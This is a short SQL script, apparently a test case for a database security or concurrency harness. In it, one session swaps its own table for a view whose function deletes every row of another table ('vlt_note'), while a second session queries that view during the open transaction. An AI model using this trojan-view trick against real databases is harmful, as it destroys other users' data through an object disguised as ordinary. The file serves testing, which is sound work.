-- Puts a view in the place of an own table, whose function deletes, while a query waits for the table.
-- wants: write
-- attack:
-- session: first
CREATE FUNCTION cut() RETURNS int LANGUAGE plpgsql AS $$BEGIN DELETE FROM vlt_note; RETURN 1; END$$;
BEGIN;
DROP TABLE mallory_own;
CREATE VIEW mallory_own AS SELECT cut() AS v;
-- session: reader
-- without waiting
SELECT v FROM mallory_own;
-- session: first
SELECT pg_sleep(0.3);
COMMIT;
